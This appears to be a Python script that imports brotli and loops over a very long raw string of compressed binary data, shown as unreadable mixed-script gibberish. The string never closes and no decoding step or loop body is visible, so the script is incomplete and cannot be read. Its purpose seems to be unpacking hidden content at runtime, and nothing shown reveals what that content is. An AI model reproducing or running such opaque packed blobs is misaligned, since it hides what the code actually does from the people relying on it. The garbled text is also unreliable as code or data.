import brotli
n=a=0;b=1
for c in r'''iKcXM#F	vcX,HnXϕ|>P:r[LjԺSړԄ95Н\'#DE'`)e4uG ~V}DN_1Gw/I7N]
]pNFٰ-E67¦|8ySÎI0wS@N9HDT!woSQ]')LbV}EٷNJEY.0ő/Aμ]::ܗ7Zӹ̰edQk~ކnɬqa_C܃Ϭ`#+W_I|$ՒF]Y8S		!44wj|٠sľX#MoNTS~Ts.`:U\$wUBoI#4Ahyʬ5]ժa30uhMTuK:ՃRP|2OiFmaH6_s+#hބڪ9GA=+oFԹ3Ԉ)Xc<*[cP',2ރmm?Ù~۔ގ6yӄVdh{}DaKEKmcvRw@Ƚ(^5PpItΫa[JҢ]YeVͪo8fŠuFP:{	bhɣşjvdvD)yׇHM|5e{A,?@{ǜLXgTnDiѨ	ODJX&˔mY!aDǋy		a1ҟ$mHA&ͷɈ]+"rpԠ<#2&ˣeV.1[E4Gͬ&vcRl'ɍ"x8yS<ZQ{FSƶĵNa$n.CcJ#΂	2]%?̑ۆWP4Wa1?Xe^dl2`bήwymq^)xw*̺+{r,xJXsϝD?P_.r[Dk8AЬI\OՕJ| Ib1ښĪdsǧsĊo8͵ʻ"(e@֠+?2Fk8$=8¢wĕeH5ܕƷ:TTpX4J_uk$KB.io²·I^^E0&.R|zʧIqq
L7ϲyp+g!Φܾ01(UMB,!}ċ3oK+>c7c7GcZ]Xp$)sq=<܄YLW-nBDf,Ѣc5Wǅ:$,Bd7AƳvJPIٖ!ҲbhǛb--I۵z"<{1lGU|ܵH^sy_1Rmݔأ)½MN0,NclҜsٜиjV̟zk>L#nv(&;x6lƹY1W;..ŰCZ-y
\?ʘ{&Ǩ q/R[~	;Md0F>Q[VYf@`y՚/Uο
lZ,!Y.ŭX9oB̓zоO:  D\W1#T]Cѥ7ڜ\Й:)#`[Mfv}G(R+pFmdpNYpXph1rpHrH/d;-g7b%HQKE!/LΡB+o|b5͜	ȟȣ]KܹpJ"՞Stޑ4;?5N?\V6+y|'
BY2auf Kf[Z߬eߒ	ŬzЏβ$}+S(8kpC>="!'a&v! g@TZ,×ƞHfodл	d<2
j_eÀ~	w>@.Ok&3
ט':2IwbAkI!!}:WF.087tm|[MDa"}'XC$MlF+ׁ(T=å%4aR_aTxߜSbU.3nC(v:Xh.uޢIk7V{OJ|׼=+2lh[4k)(Gl:x^|ܹ/we26W	#H<y@p@۳k?Mո[ČMnRhq̎n8y9ZZh܊DFgYM!?^Ie΂cֽeǪV{D]">,ۊ.P"L`->T{AzwNGtX@<&/{7+fG$Z9GOtBFpդ˺جG^4cVεQ=49P>ЏPr{wlwʆ_6*`۾YpȐ+kfxtX4Ѐ~ƱgrPk&-~ދҩJz?8yiU	!s&Nw^<pcx1z2Mԝa	װo0؃i-vU%TBv
Y w؍,DS,1<DMh\}88Sí9[@$|Է<,ŋ5+^Q@
} мkAHGQgƠDr!$`Ɋ9ɪh9n;֞8@^2I[_)(l+m\Qy[Š:@ȸ;EMP1ЂQ!2|Â~N_ `t7_J?\iFslٔc"_iےvg;\Wʚ-ȣ]%[%س%wXP[BElt'C+_Rqa\xrUumMӀ(BZ'z4fJ9aW(FI*%k߾nLý%1aUhÜҨ4GXKM|P_em2Ÿ4'|߄kts=_K"
Moӽz:ѽb-Na;^EtIg.Jk:aH"_	vЎ16˪~6;mΨn;Qv%	Q7<!ϊLzݭ|˃+͵IϱdkEana#*g`*ӫo$܍22"BFApֆX9kaFwIn	VM(/L(Z-÷Y3Xėuۧݘ9/@"?YPq[S?hdTf|ю٠,3žeOb:TssƁ"e3B\ђ'0L)%~K{̲1ÁQ>$IT]	#"S[, ]ѹf/m*8BTYB4,'ӥRҜ|q
yd6Ly'Ǖ	5@c'qr68jl(ԵP$;	qgnZƛM a5n_-45FL<| ٣N-8a$I<DZe	uT{9'`{j^d?kQe˲ܨ/`	[yă0#ɬa[٥MKGD|Q"mRUfг),pǏ+Iƅ]1f3r5HN8,8I|̷֘]B3XT'sۇzGFw؈
	Q682_k-Ѯ<nUѺMz6XÍ[á)-ެӪܭ#!Cnc4SԧuӽkyCq-ٗB:I-5mT#}٧	{=(xTw65ހ4CW/SPcFV͘g3:JSK./i+'%KOR}Mg(CQ=	y'BM*tOU0
Mͬ˘HDuG	B}p/AԼUJf8w؞uxţQj_A4UMfǣB3|
Y}].S%8uḃIpƻv"r?1Sע8D2Qef;oq8/L
9Uwr&mZJtAia1g(پK9E9{%ο{XF8Mχ2Dxp3exյϤֆXOlL]6ƐH: JUN<_º$MMkbb8H)_d('l8>DQt7|^iGnu61M?nGF_+pqAqт
BpMw	rׯk^}&B
b4T@nCI4x\}obJhl$ViZSVrVUcumӪbĳ\0 ;M);ܘܭo2Z"!&oя|ӡ:ѡ_lLqb.2d$R=Np/Q;:a 45ƹOcҭ:m0k1zPǟ0;ˮ'	$kw.+Å=ɔ=,l8$ӍBʟ/<*7HʞRP5t۸;zђT n*)Ո%o$ĩrZ7uLzSSF#tw9fҚ'zR]\ufL~9Q|d,֑/^s??z|һ'hުR̭H.~VfeŚiX/<63B0w	#s"EON4T';[6u2{ySk5@2`JF|zukST
v9]]#Z;%xaPxKD-\EQ_ƔIӤ{FD44-%s%Ӗ_~%_ɔ%s/j
v.mikv>@4) +Pж	PhL#;YTG{yAooa)à_VKͩq5bT 
0l(z|VhS
	Hܮw߅I47elX¹6Tĝ:VM:apcePWG=e~6Q9Yp$U/e+}yk%	]i<4?!{fO/Tdx1>spyםn]	{g0MرVΣv/r8o6 /h&C&p;'ڥ+,Ɨ`܈NşƩo\`:9<{@^ +S˓/Qӧ1H2*Pbp>)n	ү ="zǜB!D%(>lXict;w[+(`%8FzF3ʺy^y-.@{g;_UD8EXbŇ9H01U#ժȚQ"pŒVҟ#idRJtw5)޲k̾+Z;?r=R[PcO{X`&ڂS7Hown<ȿ+nkV\Iy!l(x H!=/%\/+.c85Wu}a϶hAʺ:SnOX=$**HyI)iDQp0`,@r1LJ47yٷŵ}xjI;7-{ԯ JSxdv5(2|`e~}]΄lq«ϰ~/aw)GHԚw"؄1S,%ډ!iM:LވT*)iLKA)}![Z< B wِ94Ӑ6/Hg9%r?eE҃av%]{~({ujly RC]{Kwϖ	hXkuQӑetBT7,2Go2);2zs1S?ڪͿ<ħ;4wiR^iIӇa5m'P} p7vґ#$v>q7zoۓa_XL)u|ݢ(qx%az)0<WقɆ'=-=> /Nms<kj54%e%q_AOHґeۺhJ.h_٩^^~SϞb$p܆|`o˻l?/7͊DGPa4s=rw#nk²B/:S*1rۻ}
n7'uxN#YŤ,q2fq*UZڰQ4!saN/Bژ!f]}Tlq8\d84҄
͝!L]LP;8FK]:&8}#6qVMn6ke؉S\fw4,K@zLxճ;K;Qgށr#ΞiJu'Tp.j=WɰGMAoWS/w;)Ҭc~!ĎEܧ)_")Lw^dsC~(Ic\ŚZV%<՘P)U%X*\''eΰ`/g=1¢Bq'SÃ5&{<-UbȸQʼeiv#f͛>ϫALTS0
9a[7@xgqKF`,£,N3]$e0PSEǸӟ!4ʹ*Ͽ
$D>a'd rƨѮ%kn|+ʨ?>0Mb'ҫ<Qߟ%{%їYACVT$6LkcK7.HMT#¯-(l5'YzĳcmeK!Q3"ܣ{sՓqÃ#wɌ!۫ǻQt܈7ŴRƋ5&|xBy)t5ёY-<^!&@ۿ}\]V!F`7A32y|d!PR i3ñ1it,!hkԾ98Y+gW\fE`EwJdiVM1.EJU՜yX>ַθ?e|#ճ}5,hjͤYHxIs=H	\ش6t:ӗۡL5ȏ7V#NQ5]9hB/v%&ZgKD%/tTl4	9.֜h֬ tbL1ԓ{H|3H1ΰp1?+|j9jj$h?ڪLT:Q+WwGHWj!z8gJa\S>ʃV܈y[I.hfKe8]	-?ҹK؛s:ӕ|$1^ELrnk[ץ1?'ɲӀ3@Qkv>(HIŸaRr=qʶŗB=Ǔ4>DȍQu@:rǓR{1t"d;8ΘenTZ`?$z"o)Y:ģZq#n.߈ۑߏ:ןxih!`^XHrN2
;@G^ciox\/ l8%-2VIlZzj@!XuTGb;z.dYA%7hLsIGZHT}jM_JIoHU4cV;:n}[W=EzcZewؓwڤҬvEQbv|^A$	e!ɦ;ԖݵSeU
lRk00ZHvե6Ԧ@:3O9=p5J`բ5uBGIT֘ݿ:Q|ε%Ad9}1z'@g3P-,++P'8QXf˙0Y3ȩǄr67@-h6H-G%x[z(ӎ?Eʦ|GQ܄[Fz%26t{WY	oͻُnvvia!ĵ@/l,^Ȯ2`۠OWx&C̳xɽnƀI*l*7":1#}B
>qmYDcݼ&+-fHz^șmgw߈s;rĂTYz0	5||;=[LC,w4
δFvz`'	xcz܊1`՗Etړڡ!6%`^w)=̹
rT"03dGT=IgȄ
ktΕɰ;myr[w7Uږ$toȍuWқj"FIEյ#KˑfbGݬhس]_߭|M f9&¾=.EPixy~`vo'7u~0}u/˲?5XϙTDSP[ΗK_ŨuلQģ]I)Y=HVVa5qr]|l~SLa6є.ԝ
S}Dϒ#pWYZ\OY_ݩږ=
mɑҧaR	0q4,|B1̕#b):,.Q/ʗ}"?,,7ɉx2eOAWΝ'0-,Q^y=Vtd:&@ykޏi_,k`<~ӎܯ\ݻ*^a\LbrֆΩ)ќzzݎBk/Lmm*Jgg-:t 'ύu/vKܷ{ŉBuqy0ј܍AeI،H:b[)Fx/ۗk:Һ_V|S)d70-As2ÿ -<U#՜6f
ǂtRW#9A`τȥSK@Cɂ͊ma&:-Évtm.ךՒ<8Q3dל[+Îy7E"lƖ%l]E2<6ۛwurCϦ<sDq%0<p<ZJU3x3fphPZ8`i[6q@4>Uk efu!%QHarjn_57<%)ƤLsF̽wC4r͡؊lD1~{eˊEuҭU ݓو77gI}s؉HԞ"`u>pҙuHP4%[ھU)VDEW8K1υFLb J ,ri~C\@AU*n.^$]Ϲ~.pƬzUWG@
f0ʝ=f:xy\kB{
mr"fFf|t:jƃ'¨s<@b6ǭHͤZ62b!vVX;؊GоG'1`B#\aYdҭnI[' `{Y)մFm/1}6/Q -<՝Lۇ
=UU^)jʳ3BF2"	ZtSsW:-ܬ>iZ-%E3[so9|4].ߝjZܿ]>.;ٳAn[<|^
ːϞxΉ,Yhو=pB;/1;Kq@SK~b$*ʯLd'3}V	80:eM"i-fo	m XChk,"
{aBh&A#Ŝ]]luk/>ږ˱Q3#:5Hh_0~P@3?G%uK?%q*ү>c[͈MvdP1Kn>t`+Ό|.axgպuulЙj2a<r<dMqF'DExeڃcyؗBҳC˧* p֣Lv_v`R~rfqX6χ֎!+G1!2{r?h /c:maEAG7Xև?}I]ۛr*y
Mṁ|a>oY
K2C%lkcq=ܹ_dC,I=ޡe(ݨ@=}|'Yڄw&ޞm֢
cNEʏZ+1Jmh~hK!WfQnk))Z_Y/]!ްx,_)KUO>4<ZF$o'|uQIӊ#б/ѻZh^MOڅe(mHro͛=Ѿ>04-m_.Jܱ>"GC9^f޴ro["ydM0.)ߵs4׋Qϫsn.zǻҤV] taZì:md%_|o'iTd|m>xJђ}4UA
m^%dFeC@kx"HS)
׌]Îky\V\ه,3."k.ÊG®|Hƍq Tu#,sP`Jeۣ68/DRН1B(dah+7Δ9PIɕ?[3Z\k#p؈lzo߿(K'H
1n	)//h'k[jfѤ<`hLw̓TO/ڍch<:~$n=abݫ?%*zk*Iixzd8nwhĊtblqZ^yeù9<BZG<1"]];B^tW=T53*.p/Bؘ`R58L ~q]͗Z
zMuyzȰ
Ӝ	nŭ˭N<Ĺ9L:
TAѐ'}0%Sſ'#aOmxj?Px|F
|ЁmƘ/areƉ4]bgsE
ПVC*1*;6>:'ŜG_wX8Bsջ+J!dJc~`$ ӎ+ 7BQD;D%<X.Qơ[քOqR(Ҟ1S%HdDTU;m&(r"..ݼMLdm˾yƮ51.
ŝ%5*Ŋe۪}p`,1OS\vVp%=^Ȁ;Å~u̴$-ŕo+s>ųeȡڛ^}(/I$^.1.ݔKmsk^/+].A
I_	Heprxm_ǼE2}z`NA	Ta\,{~x3ٹԨWBTwAѓC~j)mֹYڠ.КMvѧԷOعil*ո6HSN+4v<m% 9wgh<KjY[tɥ!7mׇJ*(@-X+:Sf3aXq/z»MsseA)eO5gv?0k*Euji'qFŨBΓڠ_6wKE?In;ɧ~x؂*o9	=pMI>ηw?dPOsM?0_W٬E`eǆcnU)]JR/3Ob%p%@v|2^̣I{Եbݢndηf_оWط <D][_YDuZ7v'r`QDeHO@1P7"ԃvFf?b̩2Iϋnr©6uw8\ iWĐ	@`@`;)q<-M%{DÕor]K)C4E-54BŬ2bumKS9Q
y%Y̬ϖu>c2tA!,Hl/Rkܖ=qʩ? F].YU݁w<
ČAqT8ѝg~:`5ѯvh,KNirH޼"-ss"5{(Cށ Չ7!ºXZ[$Cp-SR9uëwT}ٞXx|EF?[y*@HrER7zϾDu>i'$.i&+/1BDKLcmՙg8_X[9Nrـa|Z/l_]Kn٘1b2|y}!^rҠ56CBt-VEҒ^[[9qdt$,ۑWY][arJI^w^eӛzڷ@qo٩ѨEH}nBϳϿQ=xbxOF
ܡegΎј0Y9 rԓ#k=d(-'4nxyW0ct8fR;Aޠ%2υ?4ŲHK5B?8PaqSa:L
ɲmF)[u	^\Xp|B#;a\[3XF65}%==pIg%2VlıMx=USmYFԶC1j2_sL$}`Ĭ;܄'-hfiBލMΊ8fzn8Q;4Z25B
9".IҖǣ	̨KJ%}Iub{80]e0Ϛķ=}f\1Jj#QR|M, v.-MlHi߷̋ĭ̚Rūbjk m5{-@qFOGĦ5Yz-9uۅXMefItE%zӀpT^[vx<}Z'5B"r60f=xAن@0HLӫ7Ncx-?$(ߔ?`}NE.KmVu}EdҾvP
ϵsÑ|0T{?+ϼmM<_U)o¹4lD@;VslK7u	X+υ"6iEhZGb0.ʝ@+2ƐxpvFL)-w3@t.2ˉut`4S4rWE~gsܴ6A|ülX9>$_ZSU;V`c4CC=@"`[̬9dTYX)}kzL]:	^P.νM׋9`OxZmmw׊jWEDrةلa*FފI#(SVY(tJ¬$3t0DBBҀ܈ڹԪlq#DUWBnC)'.XhB]|4C1NЕ$O9-
Ǎˬk
f8E{}tބ_VR3*G))U/p(6pۢ?)SakOϛ0 B,m}gxG^`ǷBb϶;#&C7Cɨz}mIa.al+&ox1n}&ףڢ;!f=;Qi˙
L]x9ډعedQT ])\̘AG{DjcOjmM&6
;@MAy/ܪIRɆ:og2Usj١DGsnw?D%5T[I>yW6nn:ؾ&oe<zDN?11z/o:q=0Hyq/BX.PAno70|C:C>9C*-ٔ/.үjAJ>݅qpm[Y:eqDUn6rzsOyB("nd'a?dGOwxF	-ϒӂë˸\xS:,|Q&δZ{8i0K@-rEcˤY`D-^CӪia./u)J"-1œŃuN#>#9^N-_SWg\ȩW١{/fƢ*L`uӴϺk^ޗj[==S9L+ƽw@գy7}(rLWۙlVV?
GeݹrBzS}x_{b$m4<:ŵݲܸD}Z"L?_ٺY.?oH[B$KPڨ3cc\->9Ue8Q)A^Ӥ4gE~{P/RjBut7xVHy}eֳUoݬ=LÙM=lYDwd`+Ei'oQ٪9BF:e?ɪIե6(
#hNa&t
e֜jKJoS+ҜBo;-aϦ|D.U׷ɾJjuTT/YŕJk84 Gu*Y)X}tA3N-e_ULԊlIb5g҂|%yӞ|[S>͒B+վƖ?~D-{BiUn!u}8z[ѰTr̪nӺ"UX gS3bȵL*t*y%`!}e1dI3u8jdjVSؾ8Jh%c`%vTgDˇ7	(LΕFu 8A;l|?6ϙ[_/fo_ {/ʚN^{rs2HϗJeWBTd j.Crm Фqa.V7sݿfrޙֱ%2/1`Ur͘mV|.Wjª5Tݺ5
62ҍ|4ڠ{e|Hba75

wh'O̩\I;GJĻx+hԩþ!D]˥!II<_ݓdޗ.p&+dqhw^]g_Lz_1Oד:Mɚv7trp
`l'o`bY#ʶa6;9|O^zwy8rhɇ֯$fG'VFJcȤf6I^,`\>`Pjs%5{=N0c^k**#rOZ7wf\Pԣ~h8iBMMUN}9(RfeWnGl SyK#1{vе<M_iRA	N)+b)!w3[ޔTGɤ2vbuVQD6ZɴS>R"Wu5(.y:*o
޲zX\ň*ֱ	R/GT6X5Kϒdw&i}H@}.!'JVݕ"<?ÞA #Y̼e?7gЖh|PbC}t5kbs(f]Vi) zrcPVY3XAfIq]ֶȫx|`$
٣LGɂ18]	hCcdqEJܟ:p@"i@&oȤ{U-O0ubAd,+X|g
[|*БS{r.H	ӔT;t{zF{Jj%<UPصԳo[`5pA|ՀNrw>F:ӝ++ԭn]I/#<"7.}w 1r%jX@ۄӊSq0EPN3ٙå&NjrL%{nUԠ+"MnB	ˏQ΅s2"bD:!w:~{`[R Nh\V"NsG	,M-
cdŋM2M`\M.O,^J6LݒזjR<˳$A3:ĺKpOݾS>--kc|QBMH3C^|?Uω7_n@iaȆMn+WJ0߱`|ѕ(V	cJ!3r`.#w#]ZUԥuORB*`\#cGÁ=ڥ93jXA=*2~|ݶլ"w6:]Nf U[Rj ~oCyLRnsRB.o`$LK|!LҒ[OdfeJ5TH^LzHm=?W	L{|.x	9p:s*z9g?+7'|ʀIs&͒I[3@ۄ<]qơQƿ*^bګϽIRz`<,>DCcaRƹ(yK@tm:0z;dZ1BzY1aў.P6NEG;Ǒkv0A2V" S]sn]6R=f!N٠|Iߛ)^)WS>0-9Ba5yL#;A҃;2B=Dvj I3mѓqة]=NޒAy|Yl;@_+>	ɝaJ{uZ{?:YrSsslgPIGµ^ʌuX	
5^'LaLYd^Jm'yU7yY
?+PmǒnZdԩ_M§I{-1RDa[Au|oI0ښeaoUVWS8hXD%&=*<g?T<FH{Cw}
GJ~	l,Ͳɱ6"Is(ٮYmy@Twuв\%%u*
YV~x6g}H7{ <)>xٰLŗ{h]N҇>vkhɶ%Ƨљz
FwV(Q&0^͚LW"X2KܭޫWG%47a05p؋yI'/D1IJ:&08R^P܅_leQslW7Қb@O]*k6x<4fܿNT?*g&2k|	6ڡ5]Nޒ۸f]vȝ6Lg9ͼ
xt41^ѐL/~7
Rƭp.bf.PaG=ܔ+; )i$ɲR`OF.DmSЗGB^)֬jwQD.XҪbqW˝P.>O=Ts|MJjڞޕNW)Zt̶2"ѻgxxC̨5E_ۙZ55)f}9jY߲5u&$]gxs4ǎCYDZ9dQ%A]PޥxVQL1RsL1_LA	
1tДяgtM:&dm"5ytvvcUq۵0AbPV<J7`q?Q;,3LJ?ͨжWUg-ǩҴtr֬CL
3X1|n2zelltdťR~X-)
9"Rցh0yl%͙CLGmJїF-OkӶmLi9yR3BC'dhp|;Hb[wX)`=XrODl'Е`1ɢ!Gpث\?}@7/spҚ?4#G&0RT3Kb_":ia"<;-
߲5q|Ӓ;,9pJg]#ěbeG˹Mɮ͠y7UYUv>k	Qby,}81MMɸwZ>	]DqoG{۱F_&ۃSSmon_ ZðtdeeNGXr`Jj>(JEC1g
F3An_L3X3,A&Y+&V])e~݅1Q10vmKGB2:;ːt@Dlh4(i>(*q.[ޭF6.<Imta,*gC=zç@VQboxfϾ; [XNi
Փ/cЖ_DQPɽP#ϵ%qIV؆HDNiEΎi)!-"H<9RE%a<~t|kօ!Цu%=Ars\[e97ƴ@rU5S[im4kJJ
':C+aW'M=uc}Tstg3R~bAVڎZضQooGƜ4MY͘pʎ-TC(vxGt,>(8kaҡi6_*,AM
0KwHVt:2=	4hߏf5D^9Kt|u}(ں,s'B[0|	bíj?*8җhC@Dc:l#/~f4I%!hǪKJّ1F);f:aw{պi}.dxMPF[)ɕ:TW{U=E=kPh% g!AAF;4I
C}X܀Ǆ*!֔~Y* 07fѵCџaFr%@BhA̍,\?P)%wFC!z]Ӏ.m49m̽xst6G.&qLz*Ξ_ӑ:t/iT-ҁȔrX3{)%oIeRR¾|]/qv6s$ MnpC؃P%U3SOd3c)Umlrl'z{6ډ[Y\BQG!JYIr˾ߴ_CAps͢K;7m%Us7%Yuj4ǜJ! :L$\տאZ܂pL\v0`¨&7sn+J+b1axJJ5@hyJ49fM5/G,7fpyQ?f(ԡٶq˚6/D۸}|ˁ`g1h9"NƻRf+]g0a@H'9)m0mV~$8˳@bո|ZIDMo L:Ƴñb"0A^}'63[[buQ'IP"CÃ\(-3h^M{ܟ	 S^wr42q«Uf̬zin*>QT@|k\#Puއ=[%W@3bs?hrit!rW֕`¥q?UBq;u66/WfܨrbVXA}O4}aLaW}ʾ?	TpxoGx	G/xKGiY)vތn#m=lz3d|v~8&RFTЧOC# fM&[#?\+qc~epOht|7xTTV&xJ,9YK,˚x׵k&aޔXT_*dZ#%ӽuu"I[˅9'd}׷,YB3ןP~ZX,X'8Κ1D^xڶTkЇڬ(YnA=QDy39W+ؙR{k;{a޷dC'S!xEԡy/!Pep5p":T<օ~5%nK)*b$p
α"j:g='Hw:E!g؂fBWPHOpOiK9$6P]HI*;s(½)Ţ@˥*ax5-,RD
W*4uPqcOۻnë8FԊb~r(dZ_:O2LY<ժ@/AM*iuGA$n'xct&QUʔL>9 ]VV<ى2N6_kI702/Ռ5veH¢γ^2޷āw٠BwU[G)X[b0`3KtN0TV-%~W/V`Ղtn4Vݷ	Bjw?P.)2]תUr@-+P)*1g^e1èB׷xAJӽAY%ʴ2;'y߅bF8SOx4"Cy[~GډR=dTOy%HzBiߒ4oܾ^/؜[v>Q%4q*Cڥ!osIy7| *xB1<ݡz4Y> EiXMQm	-7B'2nU(t}AnٟP؋Q;+ϥn::VeYӽshu?T6b+ՋIJnn^ٌ,ŀ2IĿTwk-MRéF/j;oU
Gʽ<Z5AYOع"D5ڦ/[*σzº?ɥ^_Njx!{H'ޕ;Gb#@iصh|:J(U3\ӳ#L?*(cng\[mv{R.>{lJ#Fpxʺc^yZj4IڅMc~]$M`D6oa%d]t"YĦıVF(it02#3L͋Yr;spt<ܫUru0k-!MޝU7
/Mw|?tULyo?)UNE^/kޱ<נ4
:hÏ3bp@XFZ*nȬ):^Ӗό)4_yKϨLJǤ@T([ob&7±]Vj&T-`2#U~icS>׉ڂ?}?YʬSCSi`¨lG{}gQ5ǸEn2̌GKHJDO0o\;)Y
6@RULj7DZ
.LiPW2ƮNiVQU/ŃQy+G\f0$:F qP%VRz]<ê:(\pcG;S)#DT>֧bPTy4mKXH1fgC19^r0<ppKwC4L ּEvØP ۑmsD~S7Heg(L'[<ruhqU<F6DRk6do&f^+[ns4)oW$k&M.vwɫ?2Ǣ.2~k!̘$̚}RCṇ7z9GɛUKX7QzX̓]W0]OR-n
V!c˒ё[=Ya]BeTviD֬Z*Te;СVدT_a@`@ o><rQ5Gչ[`,AEaάǈ|F[<R5PL4KȵZ8}mӇ<hO"+?$pXjٕUpc2EVߒXRUQD+8Y!LyHҀH.KʅD@%<@Ц%|ݑ{/hˑՃ\*VbeĴi0G5(͘{ej&K\9z-L;|ٶ-$iqOQc ƹ(DVAWD&`Y˴ɤQj!G]M\a>C*~ٲ:42'GD]V}%H73ҳM~gn3)W2E6ݠ^8ͅLa=O?́
W(ȳ\ל*viu=&X:6¦~g'KRƶob)re%'7n״>:F/t|x4[BfȚ4J!6NU$CIlF(4l6\ScO:ƒL{O%?8
/GIA6~V
^&/GKҩVl/R,܂*p?W[t9ƌE\/ѓ ٔ ˭6đǡ[TMWeh֏5TɫJ)YPSCBQH4k_*lbUGYŀ&~ٯoqkdЭQ]Hw\1k''(БS=,3^z4{9~r7Ů!MӶ!zt&[7HjPʀP5s9L5ȩ^͈F@"7:94bR,I|D?Fz:qى[f3Dذ{XIMctޤ"38-)CކUVS!ȏ%@;φl	2!?ϝq+K7 r?]PlhAǚˮ#٦G$5,bx+ݯ"x,ڔQUނTltW,p4yFC{NAq/4!A4Ml-SɛP PY1zHs҇4PU.8h'c2uv<D;̀Q*PK^ߢE@S$?y&wf˥&]7Z3T;ߪ0dd>5`^עP<o&|!¨H:KnfEdT۩:nc_3Y-Y!Ҏ=5KNBחJ1(ѐyfv76ƸmV=~GΟ@7IϯgLqq/S\Ҟe58`ٱW؇Wp
ҶUk_#pPƢNo1TB	?X(!Yc ;@5;g	ҦWIX,[ǌ0Uֆ;M#$	i#F
6_%"\F'nP{CN]PD=ה_GҢbC%xPJ\vk,1c̳o8$+M}xDp+u͠߸ӧ}bg{)sNY-zS̕7CϪvV˲QsdW 4<W 6az̟@:dgƼRY'%%(ܘ,bۙ˃LKQD/x![s"Ez^Vf	ʟZY;td	ެp#?4>0Si5MRQT/Gb,WB<p7Fs.<2"̚8Dr%҂C͆57c$H..۲y0ѮaV\t4Cԃ`ۘ1hۊ>Áe.n3	Rt
Տ7Љ(_pr,@KS٠I4f=ۡZLyv4@'p+²uKEeCԼ,)4w+"Ԙ[fjQlisz"NdV=E`\_?y@kBh*619Bq|Ѕ0L
0ʀ5s8[n0NUpoi=VRލxӞfʗ}NۉǓۄ>ٔ4J[YԳ
LjE؜~8^9JL$J7ʫ484n8DKeBcז,o/E(0)	?w*!U^O-+Qȶ'Id4هfg3{Ӻ4Hz#UyZ5^ҔNXUq$lA#ߟkub؊6M{]ԏcKZj֊\(Bg4c[Ҁ-
Y!ӷu!t@Ɍ=y;=6}~#2RRvKgj{0Z9'*QǾ%7g/¦)"`M(zyɭKNٮڗܣҟ:8řկLa[שGlLӦ¥^߭ߪԳD=.ɺ'%0\45Aث50s3o>e%;:2~N	'̺7q)Qz<dI[i"C9R5Yf;ŚKuc?*<FxT|éZפR6gn=]fb6ū. =qTBz>+J]6]w/|.%˾xd\2_z]`_Yk$~\b-$=K(kQ4uZՊDwd	^n3KKb~Xxa{E2*sVSu˖Dp/5-j˙|It}(0[{XYؿ8L{	:6/c97?B{4(75ָA8Oh(ð)ش4;W"Μ'f	\ǹw"g{ p3ӑE!Ȳ rGX3-*	1yhy}G1G99C%b
uT!%]oP06&@5RnҦҍ:%M	Y`+J ̴ɻ,Λ
/6Gv.mcE2Wi&ڎviCTՆɘSQR7KB90/@Z\Ԛpֲq5v (qN_$b%'s1"{
2!WawϿYЪ2QY[ęAi 4c]S~JJCN*ԿrǨQݦ}xRrl-r/qLʘEu?>%A"lZuC<;mmRVl_~67ѯڇLQb@Vˀ{0fPrxcjטuxo:b]Yf:(ԠĈB_.v&Θe	&i7p[ңƚϨ/؂%Gɀ537SQΑpHم΍M)SЪ#<6WlAzŢʐ^$: HZU
e>j02i\=OPz.47d4\{{-yG)IKsp׺Ij\sN>(t@і^ܿK~8v٘݇5	GA"%D0*yy&@Ob_
|H.Ԅą}u&Gƀ<1Gf"-#5<@6?ǹDp<@htCt6d5P[М9o5O}ޭ"X_r MɈܺْkh۷lHpv*jǋ7
0YBmنҷ}]Iz|`{ .(JZMѵ=PxærRQʇ9t4ZIAiڴ):ւ4%lZhBYL.T܏{kQ+S@}NϹ(85y՛p6mTu/fā<>]ÑYʮ
4rw>YWR¡[؏)IQ%rUV۬s|v[ǂeuKڛ;tt;j_$_\*\`(ZPq\p]	ʔD:-p-m<T"Tp]ئ0@_Y^pΡυ?,6ȕ!dz"`MZe)-8TЀ9Ѡj%XZD)\C:wĬ4'U%khk>Ejp:n
g*͜t]wU3,\ER17
"n`ءXVUޭ|%]2	ixzmnY;נ`c6@MUqܻK<K<"S1W%04}W2EV<GcLu,[JnI8Wn{OӞV¢PC|H63̼;݁@Y֒͋$
gT`Mn^sjEϒe3kISE&/"1;ϠƊ	RynQ?kFv0:dHoU&Tx3pU9}fʫw~<4t>!2ӹBDP#z/=w)(hBmtM7,Q=@/69̿J"^1hA:h2IdkPɧ/9b-AWʭY%~2ݺ:c.ʌ"B
W8":8{>s?	F8lkg.-ύN7%wuQNvxƣd/{Mx*'}Z]$*3Y|OJ6iA/QuTCͤ9Ź!ЋJKGlJ]6g'!#'[	P`U-^SfHlGTj|cz@[l$;-1RuEj]NkH2#|,~ċ{2,5zCcPNaqL tަ@ě3&	T#:Z|+Ռu4ǭ,q]լЏyyG܅}FfiN~0A4KhHCz;wGGyo?GB/>bI+RԡNb1FkJ@7٘NsΚy]AbX3 @:/<[F#e8t^fD	w5?*fż۳tǦ3;Ɣ)DZ86.[Y\|oZ֑,jμ*]rd4:9ub3&eBWN1}"VNNY˵ɉ>kg%"su z:د޼3TQ(PFThxCp[B/b
bWrDƚ$.#V"c&>-fs|{U9mAIޢptX/2']XTQ:EnuQFZYs4#?Z@i1Rэ;|ޥ|Rҹ{*2Jf)jUJ"K/&!Ph'k߳n%ԏs"d7^2^ۉz:4ɚJ]]P;ج2&YwW̞M1<eDmlgwЈ"=9;4-w4Y.ω:FY'ύn,b8(˨hB>.aPՋ@	}?k }y֕W(Wjr^ylD8N@`Ze;6ܭAm#hЖdưXp7	1ܴqifɏ\ʾPP}:O#
Ugz=ٹRԽ.;ui+\HO[9E,'_!mQ8ܟؤ*%٢A)6wU)H(_;3.ߓR{KHӏMDcz|TT53p֍d,rЁ4&)JlZ"D6	̠&1}d+|֣)/ݨYx,50T$LSOnΝM3fA2QYFA%:S%ƒ;CC;I/,ǲ4/r'D6

ڢskfnbNWvP?ZKl&CEhif-#YDa"xq9&
FTx%ec.ٻs3AWL)YA}M"uܙ*0݊bٿoz"%ɪXAQ]hQ)	I'0<>܅[ڻ"{j[Rehq|RĎ0
^ }φJ)];i&ƫ[ɨb5E;a(:˃dQ'V:gΰ^G799a#y]9a9j7)ԆZt<Vm=cCSĞ42qwPiW
<xE0}Աug{eІn'_kkk^![6lNF'4ADXvR!wL~:~E9\?%[ & qS&iM	*ە
&+FVO,uSա5(UYDDѭ(G|˵j5}5VBnwW)D8zlR^&t
m.9'<\yô:!|[Y("S$Zoc(,	1	$݌F~ݦ	4ξW_=ϬaSӍNw7aَfI>֐ۃ() q<tClD-NHMc7yxB5߷ȉFc	@RoN=`5#		ɶQR3MXkߞXW\M
mzIM_
